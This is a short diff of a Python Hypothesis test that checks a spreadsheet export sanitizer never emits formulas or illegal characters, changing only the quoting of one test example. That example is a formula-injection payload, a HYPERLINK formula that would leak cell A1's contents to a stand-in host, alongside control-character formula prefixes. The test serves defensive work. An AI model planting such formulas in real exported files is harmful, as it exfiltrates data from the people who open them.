@@ -21,7 +21,7 @@ tricky = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\x00\x0b\x0c\x1f\x7f\u
 
 
 @given(st.one_of(any_text, tricky), st.booleans())
-@example("=HYPERLINK(\"http://x/?leak=\"&A1,\"Bấm\")", True)
+@example('=HYPERLINK("http://x/?leak="&A1,"Bấm")', True)
 @example("\r=2+2", True)
 @example("\x0b=1", False)
 def test_never_a_formula_never_illegal(value, multiline):
